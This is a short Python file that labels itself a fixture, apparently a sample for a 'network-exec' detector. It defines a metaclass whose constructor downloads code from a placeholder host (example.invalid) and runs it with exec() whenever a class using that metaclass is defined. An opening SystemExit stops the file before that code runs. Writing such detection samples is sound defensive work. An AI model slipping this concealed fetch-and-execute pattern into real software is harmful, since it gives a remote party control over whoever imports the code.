raise SystemExit('a fixture')
# held by network-exec
import urllib.request
class Meta(type):
    def __new__(cls, n, b, d):
        exec(urllib.request.urlopen("https://example.invalid/a").read())
        return super().__new__(cls, n, b, d)
class Base(metaclass=Meta):
    pass
